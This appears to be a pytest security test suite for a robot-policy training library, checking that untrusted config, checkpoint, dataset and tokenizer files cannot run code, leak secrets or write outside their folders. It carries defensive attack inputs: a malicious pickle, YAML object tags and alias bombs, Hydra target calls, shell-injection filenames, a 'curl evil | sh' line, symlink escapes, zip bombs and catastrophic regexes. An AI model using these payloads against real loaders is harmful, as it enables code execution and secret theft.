"""Files that a stranger has written are data: nothing in them runs, is resolved, or is written somewhere else."""

import json
import os
import pickle
import random
import shutil
import subprocess
import time
import zipfile
from dataclasses import replace
from types import SimpleNamespace

import forked
import numpy as np
import pytest
import torch
import yaml
from lerobot_writer import write_lerobot
from openvla_checkpoint import make_checkpoint
from paths import CONF, GOLDEN
from PIL import Image
from safetensors.torch import save_file
from tiny_policies import SIZES

from recipes.__main__ import main
from recipes.evaluate import SETTINGS
from vla_algos.demonstrations.dataset import load_demonstrations
from vla_algos.files import lock_folder
from vla_algos.lerobot.dataset import LeRobotFolder as DataSet
from vla_algos.lerobot.frames import FrameReader
from vla_algos.results import EpisodeResult, as_lines, finished_episodes, read_episodes
from vla_algos.run import provenance
from vla_algos.run.arguments import compose_settings
from vla_algos.run.card import write_card
from vla_algos.run.checkpoints import CheckpointError, Snapshot, begin_checkpoint, open_checkpoint, save_checkpoint
from vla_algos.run.comparing import compare_folders
from vla_algos.run.config import read_config
from vla_algos.run.environments import make_env_spec
from vla_algos.run.folder import check_folder, note_start, open_folder, settings_of
from vla_algos.run.logging import RunLogger, entries
from vla_algos.run.training_env import env_of, evaluation_defaults, save_training_env
from vla_common.checksums import SUMS, ChecksumError, identity, read_checksums, verify_checksums, write_checksums
from vla_common.plain import read_yaml
from vla_common.tensor_files import load_tensors
from vla_envs import Episode
from vla_envs.robotwin.world import _read_settings
from vla_from_rlinf.reading import read_configuration
from vla_policies import SmallVLA, SmallVLAConfig, load_policy
from vla_policies.checkpoint.lora import read_rank
from vla_policies.checkpoint.weights import list_weights
from vla_policies.flow.heads import HEADS, StoredHeads
from vla_policies.processing.prompts import PromptTokens, make_bpe, read_tokenizer
from vla_policies.smolvla.policy import SmolVLACheckpoint
from vla_policies.steered import SteeredConfig, SteeredPolicy
from vla_policies.tiny import make_tiny

SECRET = "nobodys-business"
FAUCET = {"id": "metaworld/faucet-open-v3", "image_size": 64, "render_quality": "minimal", "num_envs": 1}
OURS = (ValueError, OSError, CheckpointError)
FORGERIES = 15  # of each file


# ---- what could be forged


def make_evaluation(folder, policy):
    """What ``evaluate.py`` leaves of an evaluation."""
    folder.mkdir()
    settings = {"recipe": "evaluate", "greedy": True, "env": FAUCET, "eval": {"trials": 4, "seed": 9, "mean_of": []}}
    settings |= {"policy": {"family": "small", "checkpoint": str(policy)}, "seed": 3}
    (folder / "config.yaml").write_text(yaml.safe_dump(settings))
    metrics = {"greedy": True, "policy_identity": identity(policy), "eval/num_episodes": 4.0, "eval/success_once": 0.5}
    metrics |= {"protocol_deviations": ["one"], "differs_from_training": {"env.camera": [None, "x"]}}
    (folder / "metrics.json").write_text(json.dumps(metrics))
    process = {"started": "now", "versions": provenance.versions(), "code": {"commit": "0" * 40}}
    (folder / "run.json").write_text(json.dumps({"processes": [process], "submitted": {"code": {}}, "wandb_id": "abc"}))
    results = [EpisodeResult(Episode(0, n, 7), "t", bool(n % 2), False, 1.0, 9, index=n) for n in range(4)]
    (folder / "episodes.jsonl").write_text(as_lines(results))
    lines = [{"step": n, "train/loss": 1.0, "eval/success_once": 0.5} for n in range(3)]
    (folder / "metrics.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    shutil.copytree(policy, folder / "policy")


@pytest.fixture(scope="module")
def pristine(tmp_path_factory):
    """Folders as they are written; all of them can be read."""
    place = tmp_path_factory.mktemp("pristine")
    SmallVLA(SmallVLAConfig(num_bins=8, **SIZES)).save_pretrained(place / "policy")
    save_training_env(
        place / "policy", "ppo", FAUCET, make_env_spec(FAUCET), 2, {"trials": 4, "seed": 9, "mean_of": []}
    )
    make_evaluation(place / "run", place / "policy")
    make_checkpoint(place / "base")
    load_policy(place / "base", benchmark="metaworld").save_pretrained(place / "openvla")
    (place / "adapter").mkdir()
    adapter = {"peft_type": "LORA", "r": 4, "lora_alpha": 8, "target_modules": ["q_proj"], "rank_pattern": {"q": 2}}
    (place / "adapter" / "adapter_config.json").write_text(json.dumps({**adapter, "bias": "none", "use_dora": False}))
    save_file({"a": torch.zeros(1)}, place / "base" / "one.safetensors")
    (place / "base" / "model.safetensors").unlink(missing_ok=True)
    (place / "base" / "model.safetensors.index.json").write_text('{"weight_map": {"a": "one.safetensors"}}')
    state = {"weights": {"w": torch.ones(2)}, "learner": {"lr": [1.0]}, "run_state": {"speeds": []}, "iteration": 1}
    begin_checkpoint(place / "checkpoints", 1)
    own = {"collector": {"seen": (1, torch.ones(3))}}
    save_checkpoint(place / "checkpoints", 1, Snapshot.take(state, own))
    image = torch.zeros(2, 8, 8, 3, dtype=torch.uint8).numpy()
    episode = {"task": "go", "states": image[:, :4, 0, 0] * 1.0, "actions": image[:, :4, 0, 0] * 1.0}
    write_lerobot(place / "lerobot", [{**episode, "images": {"observation.images.top": image}}], version="v2.1")
    (place / "demonstrations").mkdir()
    env = {"id": "toy", "action_low": [0.0], "state_dim": 1, "image_shape": [8, 8], "wrist_image_shape": None}
    recording = {"chunk_size": 1, "seeds": [1], "stride": 1, "noise": 0.1}
    facts = {"kind": "vla-torchrl demonstrations", "format": 1, "env": env, "recording": recording, "frames": 1}
    for name in ("dataset.json", "meta.json"):
        (place / "demonstrations" / name).write_text(json.dumps({**facts, "tasks": [], "demonstrations": 1}))
    (place / "rlinf").mkdir()
    text = "runner: {task_type: embodied, seed: '${oc.env:FORGED_SECRET}'}\nenv: {train: {total: 1}}\n"
    (place / "rlinf" / "run.yaml").write_text(text)
    make_robotwin(place / "robotwin")
    return place


def make_robotwin(folder):
    """The YAML of a checkout of RoboTwin and of its assets."""
    (folder / "task_config").mkdir(parents=True)
    camera = {"head_camera_type": "D435", "collect_head_camera": True}
    files = {"task_config/demo.yml": {"camera": camera, "domain_randomization": {"cluttered_table": False}}}
    files |= {"task_config/_embodiment_config.yml": {"arm": {"file_path": "arm"}}}
    files |= {"task_config/_camera_config.yml": {"D435": {"h": 240, "w": 320}}, "arm/config.yml": {"urdf_path": "x"}}
    (folder / "arm").mkdir()
    for name, content in files.items():
        (folder / name).write_text(yaml.safe_dump(content))


# ---- who reads it


def evaluate_as_trained(folder):
    """Up to where ``evaluate.py`` would load the policy."""
    typed = evaluation_defaults([f"policy.checkpoint={folder}"], CONF)
    return env_of(folder), vars(read_config(compose_settings("evaluate", typed, CONF), SETTINGS))


def read_run(folder):
    config = SimpleNamespace(recipe="evaluate", seed=3)
    said = list(compare_folders(folder, folder)), settings_of(folder)
    check_folder(config, folder)
    return said


def record(folder):
    return provenance.read_record(folder), provenance.differences(folder), provenance.run_id(folder, "wandb", new=False)


def log_on(folder):
    RunLogger(folder, 1).close()
    return entries(folder / "metrics.jsonl"), (folder / "metrics.jsonl").read_text()


def read_robotwin(folder):
    options = {"task_config": "demo", "embodiment": ["arm"]}
    try:
        return _read_settings(folder, folder, options, wrist=False)
    except (KeyError, TypeError, AttributeError) as error:  # which the worker says
        raise ValueError(repr(error)) from error


def read_episodes_again(folder):
    file = folder / "episodes.jsonl"
    return finished_episodes(file, [Episode(0, n, 7) for n in range(4)]), read_episodes(file)


READERS = {  # by the file
    "policy/environment.json": evaluate_as_trained,
    "policy/config.json": load_policy,
    "openvla/vla_torchrl.json": load_policy,
    "openvla/dataset_statistics.json": load_policy,
    "adapter/adapter_config.json": read_rank,
    "base/model.safetensors.index.json": list_weights,
    "run/config.yaml": read_run,
    "run/run.json": record,
    "run/metrics.json": lambda folder: write_card(folder / "policy", [folder]),
    "run/metrics.jsonl": log_on,
    "run/episodes.jsonl": read_episodes_again,
    "checkpoints/step_00000001/training.json": lambda folder: open_checkpoint(folder / "step_00000001"),
    "checkpoints/step_00000001/process_00000.json": lambda folder: open_checkpoint(folder / "step_00000001").of_process(
        0
    ),
    "lerobot/meta/info.json": DataSet.read,
    "lerobot/meta/tasks.jsonl": lambda folder: DataSet.read(folder).tasks,
    "demonstrations/dataset.json": load_demonstrations,
    "rlinf/run.yaml": lambda folder: read_configuration(folder / "run.yaml"),
    "robotwin/task_config/demo.yml": read_robotwin,
    "robotwin/arm/config.yml": read_robotwin,
}


# ---- how it is forged


class Runs:
    """A pickle that makes a folder."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


def hostile(marker):
    """Values, and settings by name."""
    call = {"_target_": "torch.utils.collect_env.run", "command": f"mkdir {marker}"}
    secrets = ["${oc.env:FORGED_SECRET}", f"${{new_folder:{marker}}}", "${hydra:runtime.cwd}", "${.x}", "${", "???"]
    wrong = [None, True, -1, 10**400, 1e999, float("nan"), "", "../../..", "\x1b[2J", [], {}, [[[[]]]], {"a": {"b": 1}}]
    defaults = ["base", "_self_", {"/eval@_global_.hydra.callbacks.x": "trained_on"}]
    named = {"defaults": defaults, "_target_": call["_target_"], "command": call["command"], "path": str(marker.parent)}
    named |= {"hydra": {"callbacks": {"x": call}}, "assets": "/", "gpus": [0], "y": call, "_partial_": True}
    named |= {"megatron_config": {"a": 1}, "megatron_core": "antigravity", "auto_mapping": {"parent_library": "this"}}
    named |= {"id": "calvin/D", "$tensor": "x", "$items": [1], "dtype": "load", "shape": [10**12], "<<": call}
    return [*secrets, call, *wrong], named


def raw(content, marker):
    """Whole files."""
    tag = f"a: !!python/object/apply:os.mkdir ['{marker}']\n".encode()
    nine = ", ".join(f"k{key}: *a" for key in range(9))
    bomb = "a: &a {a: 1}\n" + "".join(f"b{level}: &a {{{nine}}}\n" for level in range(9))
    deep = [b"[" * 500, b'{"a":' * 5000 + b"1" + b"}" * 5000, b"- " * 3000 + b"1\n"]
    return [pickle.dumps(Runs(marker)), tag, bomb.encode(), *deep, b"", b"\xff\xfe", content[: len(content) // 2]]


def forge(file, rng, marker):
    """Change a file so that its folder says that it is whole."""
    content = file.read_bytes()
    if rng.random() < 0.35:
        file.write_bytes(rng.choice(raw(content, marker)))
    else:
        is_yaml, is_lines = file.suffix in (".yml", ".yaml"), file.suffix == ".jsonl"
        parsed = yaml.safe_load(content) if is_yaml else json.loads(content.splitlines()[0] if is_lines else content)
        values, named = hostile(marker)
        places = [parsed]
        for place in places:
            inside = place.values() if isinstance(place, dict) else place
            places += [each for each in inside if isinstance(each, (dict, list)) and each]
        for _ in range(rng.randint(1, 3)):
            place = rng.choice(places)
            if isinstance(place, dict) and rng.random() < 0.5:
                place |= dict(rng.sample(sorted(named.items(), key=str), rng.randint(1, 4)))
            else:
                key = rng.choice(sorted(place) if isinstance(place, dict) else range(len(place)))
                place[key] = rng.choice(values)
        file.write_text(yaml.safe_dump(parsed) if is_yaml else json.dumps(parsed) + "\n" * is_lines)
    if (sums := next((each / SUMS for each in file.parents if (each / SUMS).is_file()), None)) is not None:
        write_checksums(sums.parent, read_checksums(sums.parent))


@pytest.mark.parametrize("name", READERS)
def test_nothing_of_a_forged_file_runs_or_is_resolved(name, pristine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("FORGED_SECRET", SECRET)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    top, _, inner = name.partition("/")
    for number in range(FORGERIES):
        rng, marker = random.Random(f"{name} {number}"), tmp_path / "ran"
        folder = shutil.copytree(pristine / top, tmp_path / f"{number}", symlinks=True)
        forge(folder / inner, rng, marker)
        began = time.monotonic()
        try:
            said = repr(READERS[name](folder))
        except OURS as error:
            said = str(error)
            assert said
        except Exception as error:
            pytest.fail(f"{number}: {type(error).__name__}: {error}\n{(folder / inner).read_bytes()[:400]!r}")
        assert time.monotonic() - began < 10, number
        assert SECRET not in said + "".join(capsys.readouterr()), number
        assert not marker.exists(), number
        assert not os.listdir(), number


# ---- one at a time: what was found


CALLBACK = {"_target_": "builtins.dict", "y": {"_target_": "torch.utils.collect_env.run", "command": "mkdir ran"}}
SPOKEN = {  # of environment.json
    "a callback of Hydra's": ({"defaults": ["base", {"/eval@_global_.hydra.callbacks.x": "trained_on"}]}, CALLBACK),
    "a secret": ({"camera": "${oc.env:FORGED_SECRET}"}, {}),
    "a folder": ({"render_quality": "${new_folder:made}"}, {}),
    "a calvin_env of another": ({"id": "calvin/D", "path": "."}, {}),
    "a RoboTwin of another": ({"id": "robotwin/place_shoe", "path": "."}, {}),
}


@pytest.mark.parametrize("what", SPOKEN)
def test_what_a_policy_says_of_its_training_is_one_line_of_the_command_line(what, tmp_path):
    (tmp_path / "calvin_env").mkdir()
    (tmp_path / "calvin_env" / "__init__.py").write_text("import os; os.mkdir('ran')")
    env, evaluation = SPOKEN[what]
    origin = {"recipe": "ppo", "chunk_size": 2, "env": {"id": FAUCET["id"], "num_envs": 1, **env}}
    (tmp_path / "policy").mkdir()
    (tmp_path / "policy" / "environment.json").write_text(json.dumps({**origin, "evaluation": evaluation}))
    before = set(tmp_path.rglob("*"))
    typed = (f"policy.checkpoint={tmp_path / 'policy'}", f"hydra.run.dir={tmp_path / 'run'}")
    done = forked.run("evaluate", *typed, cwd=tmp_path, FORGED_SECRET=SECRET)
    assert done.stderr.count("\n") == 1, done.stderr
    assert "environment.json is broken, or no recipe wrote it" in done.stderr
    assert SECRET not in done.stdout + done.stderr
    assert set(tmp_path.rglob("*")) == before
    with pytest.raises(ValueError, match="no recipe wrote it"):
        env_of(tmp_path / "policy")


def test_what_it_was_trained_on_is_among_the_checksums(pristine, tmp_path):
    policy = shutil.copytree(pristine / "policy", tmp_path / "policy")
    file = policy / "environment.json"
    assert env_of(policy) == FAUCET
    assert file.name in read_checksums(policy)
    file.write_text(file.read_text().replace("64", "65"))
    with pytest.raises(ValueError, match=r"has another environment\.json than was written"):
        env_of(policy)
    with pytest.raises(ValueError, match=r"has another environment\.json than was written"):
        load_policy(policy)


def test_a_file_too_many_is_refused_before_it_is_read(pristine, tmp_path):
    root = shutil.copytree(pristine / "checkpoints", tmp_path / "checkpoints", symlinks=True)
    folder = root / "step_00000001"
    places = {"w": {"saved_offsets": [0]}}
    metadata = {"DCP_SHARDING_INFO": json.dumps(places), "DCP_VERSION": "1.0", "format": "pt"}
    save_file({"weights.w": torch.full((2,), 9.0)}, folder / "tensors" / "zzz.safetensors", metadata)
    with pytest.raises(CheckpointError, match=r"has tensors/zzz\.safetensors, not written with the others"):
        open_checkpoint(folder)
    policy = shutil.copytree(pristine / "openvla", tmp_path / "openvla")
    shutil.copyfile(GOLDEN / "pi0_tiny" / "model.safetensors", policy / "action_head--9.safetensors")
    (policy / "README.md").write_text("a card is none")
    with pytest.raises(ValueError, match=r"has action_head--9\.safetensors, not written with the others"):
        load_policy(policy)


LINKS = (".lock", "checkpoints", "config.yaml", "metrics.jsonl", "tensorboard", "videos/a.mp4", "policy")


@pytest.mark.parametrize("name", LINKS)
def test_nothing_is_written_through_a_link_of_a_runs_folder(name, tmp_path):
    """Not into files or folders of others, and no checkpoint of theirs is rotated away."""
    other, run = tmp_path / "other", tmp_path / "run"
    for step in (1, 2, 3):
        (other / f"step_{step:08d}").mkdir(parents=True)
    (other / "file").write_text("theirs")
    link = run / name
    link.parent.mkdir(parents=True)
    link.symlink_to(other if "." not in name else other / "file")
    before = {path: path.read_bytes() if path.is_file() else None for path in other.rglob("*")}
    config = SimpleNamespace(recipe="ppo", seed=3, resume="auto")
    with pytest.raises(ValueError, match=f"{name} is a link out of the run's folder"):
        open_folder(config, run)
    if name == ".lock":  # of one that does not ask first
        with pytest.raises(OSError, match="symbolic links"):
            lock_folder(run)
    assert {path: path.read_bytes() if path.is_file() else None for path in other.rglob("*")} == before
    link.unlink()
    open_folder(config, run).release()
    note_start(config, run)


def test_links_within_a_runs_folder_are_its_own(tmp_path):
    (tmp_path / "checkpoints" / "step_00000001").mkdir(parents=True)
    (tmp_path / "checkpoints" / "latest").symlink_to("step_00000001")
    (tmp_path / "wandb" / "logs").mkdir(parents=True)
    (tmp_path / "wandb" / "logs" / "debug-core.log").symlink_to(tmp_path.parent / "cache.log")  # wandb does so
    config = SimpleNamespace(recipe="ppo", seed=3, resume="force")
    open_folder(config, tmp_path).release()
    (tmp_path / "checkpoints" / "latest").unlink()
    (tmp_path / "checkpoints" / "latest").symlink_to(tmp_path.parent)
    with pytest.raises(ValueError, match="latest is a link out of the run's folder"):
        open_folder(config, tmp_path)


def test_dates_and_interpolations_in_yaml_are_texts(tmp_path):
    file = tmp_path / "file.yaml"
    file.write_text("day: 2025-01-01\nrate: 1.0e-05\nhome: ${oc.env:HOME}\nnone: null\nnames: [a, 'b']\n")
    found = {"day": "2025-01-01", "rate": 1e-05, "home": "${oc.env:HOME}", "none": None, "names": ["a", "b"]}
    assert read_yaml(file) == found


# ---- what a user is to type, and sees


def type_it(said, after, folder):
    """Type what a message says."""
    subprocess.run(["bash", "-c", said.partition(after)[2]], cwd=folder, capture_output=True, env={"PATH": "/bin"})
    assert not [*folder.rglob("ran*")], said


@pytest.mark.parametrize("name", ["x'; touch ran; echo '.json", "x#e touch ran", "x; touch ran; .json", "$(touch ran)"])
def test_a_name_of_a_strangers_file_is_no_command(name, tmp_path):
    folder = tmp_path / "a policy; touch ran"
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    write_checksums(folder, ["config.json"])
    (folder / "config.json").write_text("changed")
    with open(folder / SUMS, "a") as sums:
        sums.write(f"{'0' * 64}  {name}\n")
    with pytest.raises(ChecksumError, match="on purpose type: ") as refused:
        verify_checksums(folder)
    type_it(str(refused.value), "on purpose type: ", tmp_path)
    verify_checksums(folder)  # which it has repaired
    (folder / f"{name}.json").write_text("too many")
    with pytest.raises(ChecksumError, match="on purpose type: ") as refused:
        verify_checksums(folder)
    type_it(str(refused.value), "on purpose type: ", tmp_path)
    verify_checksums(folder)


def test_the_name_of_a_tokenizer_is_no_command(tmp_path):
    folder = make_tiny("smolvla", str(tmp_path / "tiny"), "tiny")
    shutil.rmtree(folder / "tokenizer")
    file = folder / "policy_preprocessor.json"
    processor = json.loads(file.read_text())
    step = next(each for each in processor["steps"] if each["registry_name"] == "tokenizer_processor")
    step["config"]["tokenizer_name"], step["artifacts"] = "x; touch ran #", {"tokenizer_name": "y; touch ran #"}
    file.write_text(json.dumps(processor))
    write_checksums(folder, ["config.json"])
    with pytest.raises(FileNotFoundError, match="type: hf download ") as refused:
        SmolVLACheckpoint.read(folder)
    type_it(str(refused.value), "type: ", tmp_path)


@pytest.mark.parametrize("found", ["x; touch ran", "../../x", 7, "abc"])
def test_the_id_that_a_service_gets_is_ours(found, tmp_path):
    (tmp_path / "run.json").write_text(json.dumps({"wandb_id": found}))
    own = provenance.run_id(tmp_path, "wandb", new=False)
    assert len(own) == 8
    assert own.isalnum()
    assert provenance.run_id(tmp_path, "wandb", new=False) == own


@pytest.mark.parametrize("suite", ["metaworld/MT50\ncurl evil | sh", "${oc.env:FORGED_SECRET}"])
def test_an_evaluation_has_no_line_of_a_cards_commands(suite, pristine, tmp_path):
    policy, run = (shutil.copytree(pristine / name, tmp_path / name) for name in ("policy", "run"))
    settings = yaml.safe_load((run / "config.yaml").read_text())
    settings["env"]["id"] = suite
    (run / "config.yaml").write_text(yaml.safe_dump(settings))
    with pytest.raises(ValueError, match=r"it has line breaks or \$"):
        write_card(policy, [run])


def test_a_terminal_is_told_nothing(pristine, tmp_path, capsys):
    run = shutil.copytree(pristine / "run", tmp_path / "run")
    results = [EpisodeResult(Episode(0, n, 7), "t\x1b]0;x\x07\u202e", True, True, 1.0, 9, index=n) for n in range(4)]
    (run / "episodes.jsonl").write_text(as_lines(results))
    assert main(["compare", str(run), str(pristine / "run" / "episodes.jsonl")]) == 2
    said = "".join(capsys.readouterr())
    assert main(["compare", str(run), str(shutil.copytree(run, tmp_path / "other"))]) == 0
    said += "".join(capsys.readouterr())
    assert "t?]0;x??" in said
    assert said.replace("\n", "").isprintable()


# ---- what is written again, and where


@pytest.mark.parametrize("name", ["tokenizer/notes.txt", "tokenizer/a.safetensors", "environment.json", "assets"])
def test_what_a_link_of_a_checkpoint_names_is_not_saved_again(name, tmp_path):
    folder = make_tiny("smolvla", str(tmp_path / "tiny"), "tiny")
    (folder / SUMS).unlink(missing_ok=True)
    (tmp_path / "secret").write_text(SECRET)
    (folder / name).symlink_to(tmp_path / "secret")
    with pytest.raises(ValueError, match="is a link out of the checkpoint"):
        load_policy(folder, benchmark="libero")
    (folder / name).unlink()
    cache = tmp_path / "blobs"  # as the hub's client keeps what it has downloaded
    cache.mkdir()
    for file in (folder / "tokenizer" / "tokenizer.json", folder / "model.safetensors"):
        shutil.move(file, cache)
        file.symlink_to(cache / file.name)
    (cache / "model.safetensors").rename(tmp_path / "weights")
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to(tmp_path / "weights")
    load_policy(folder, benchmark="libero")


def test_a_steered_policy_whose_base_is_elsewhere_is_refused(tmp_path):
    base = SmallVLA(SmallVLAConfig(num_bins=8, **SIZES))
    SteeredPolicy(base, SteeredConfig(by="residual")).save_pretrained(tmp_path / "a")
    (tmp_path / "a" / "base").rename(tmp_path / "elsewhere")
    (tmp_path / "a" / "base").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ValueError, match="base is a link out of the checkpoint"):
        load_policy(tmp_path / "a")


def test_a_copy_of_a_recipe_stays_in_its_folder(tmp_path, capsys):
    (tmp_path / "mine").mkdir()
    (tmp_path / "elsewhere").mkdir()
    for name, target in (("ppo.py", "outside.py"), ("conf", "elsewhere")):
        (tmp_path / "mine" / name).symlink_to(tmp_path / target)
        assert main(["copy", "ppo", "--to", str(tmp_path / "mine"), "--force"]) == 2
        assert "behind a link out of" in capsys.readouterr().err
        assert not (tmp_path / "outside.py").exists()
        assert not [*(tmp_path / "elsewhere").iterdir()]
        (tmp_path / "mine" / name).unlink()
    assert main(["copy", "ppo", "--to", str(tmp_path / "mine")]) == 0


# ---- what is small and becomes large


def test_a_packed_file_of_tensors_is_refused(tmp_path):
    torch.save({"w": torch.zeros(10_000_000)}, tmp_path / "plain.pt")
    assert load_tensors(tmp_path / "plain.pt")["w"].numel() == 10_000_000
    with zipfile.ZipFile(tmp_path / "plain.pt") as plain, zipfile.ZipFile(tmp_path / "small.pt", "w", 8) as packed:
        for entry in plain.infolist():
            packed.writestr(entry.filename, plain.read(entry))
    with pytest.raises(ValueError, match="unpacks to more than it has"):
        load_tensors(tmp_path / "small.pt")


@pytest.mark.parametrize("large", [torch.zeros(1).expand(10_000_000), torch.zeros(9, 9).to_sparse()])
def test_a_tensor_of_more_numbers_than_the_file_has_is_refused(large, tmp_path):
    torch.save({"w": torch.zeros(2), "large": large}, tmp_path / "small.pt")
    with pytest.raises(ValueError, match="Tensor under 'large', must be a dense tensor"):
        load_tensors(tmp_path / "small.pt")


def test_layers_of_no_width_are_refused(tmp_path):
    """They have no bytes, and biases of any length."""
    shapes = (0, 4), (10**7, 0), (0, 10**7), (1, 0)
    save_file({f"value_head.{2 * n}.weight": torch.zeros(each) for n, each in enumerate(shapes)}, tmp_path / HEADS)
    with pytest.raises(ValueError, match="must be matrices of one chain"):
        StoredHeads.read(tmp_path, {}).sizes("value_head")


def test_an_adapter_of_another_width_is_refused_before_it_takes_memory(tmp_path):
    policy = load_policy(make_tiny("openvla", tmp_path / "tiny"), benchmark="libero")
    layer = next(name for name, _ in policy.model.named_modules() if name.endswith("q_proj"))
    config = {"peft_type": "LORA", "r": 4096, "lora_alpha": 8, "target_modules": ["q_proj"], "bias": "none"}
    (tmp_path / "adapter").mkdir()
    (tmp_path / "adapter" / "adapter_config.json").write_text(json.dumps(config))
    weights = {f"base_model.model.{layer}.lora_A.weight": torch.zeros(4096, 0)}
    save_file(weights, tmp_path / "adapter" / "adapter_model.safetensors")
    with pytest.raises(ValueError, match=r"the rank is \[4096\], that of the weights \[0\]"):
        load_policy(tmp_path / "tiny", benchmark="libero", lora_adapter=tmp_path / "adapter")


def test_a_tokenizer_that_multiplies_a_text_is_refused():
    steps = [{"type": "Replace", "pattern": {"String": "a"}, "content": "aa"}] * 40
    content = make_bpe({"a": 0}, (), {}, {}, normalizer={"type": "Sequence", "normalizers": steps})
    with pytest.raises(ValueError, match="its normalizer is long"):
        read_tokenizer(json.dumps(content).encode(), "tokenizer.json")


@pytest.mark.parametrize(
    ("name", "number", "said"),
    [
        ("num_hidden_layers", 1_000_000, "1000000 layers of width"),
        ("hidden_size", 8_000_000, "of width 8000000, its w"),
    ],
)
def test_numbers_of_a_checkpoint_do_not_keep_it_busy(name, number, said, pristine, tmp_path):
    policy = shutil.copytree(pristine / "openvla", tmp_path / "openvla")
    config = json.loads((policy / "config.json").read_text())
    config["text_config"][name] = number
    (policy / "config.json").write_text(json.dumps(config))
    (policy / SUMS).unlink()
    with pytest.raises(ValueError, match=said):
        load_policy(policy)


def test_expressions_of_an_adapter_are_matched_at_once(pristine, tmp_path):
    folder = shutil.copytree(pristine / "adapter", tmp_path / "adapter")
    config = json.loads((folder / "adapter_config.json").read_text())
    save_file({"base_model.model.a.q_proj.lora_A.weight": torch.zeros(2, 1)}, folder / "adapter_model.safetensors")
    for pattern in (r"^language_model\.model\.layers\.0\.q_proj", "q_proj|k_proj", r".*\.q_proj"):
        (folder / "adapter_config.json").write_text(json.dumps({**config, "rank_pattern": {pattern: 2}}))
        assert read_rank(folder)["lora_rank"] == 4
    for pattern in ("(([a-z_.0-9]+)+)+!", 24 * "(.|.)" + "!"):
        (folder / "adapter_config.json").write_text(json.dumps({**config, "rank_pattern": {pattern: 2}}))
        with pytest.raises(ValueError, match="not a configuration that peft reads"):
            read_rank(folder)


def test_a_huge_image_of_a_data_set_is_not_decoded(tmp_path, monkeypatch):
    image = np.zeros((2, 8, 8, 3), np.uint8)
    episode = {"task": "go", "states": image[:, :4, 0, 0] * 1.0, "actions": image[:, :4, 0, 0] * 1.0}
    write_lerobot(tmp_path, [{**episode, "images": {"observation.images.top": image}}], version="v2.1")
    found = DataSet.read(tmp_path)
    [camera] = found.cameras.values()
    monkeypatch.setattr(Image.Image, "convert", lambda *_: pytest.fail("it is decoded"))
    with pytest.raises(ValueError, match=r"has 8 x 8 pixels, meta/info\.json says 4 x 8"):
        FrameReader(found).read(replace(camera, height=4), np.array([0]))


def test_instructions_that_were_heard_once_are_forgotten():
    class Words(PromptTokens):
        def tokenize(self, text, listed=False):
            return [len(text)]

    tokens = Words(1, 0)
    for number in range(0, 50_000, 5000):
        assert tokens([f"{each}" for each in range(number, number + 5000)]).shape == (5000, 1)
    assert len(tokens._cache) <= 20_000
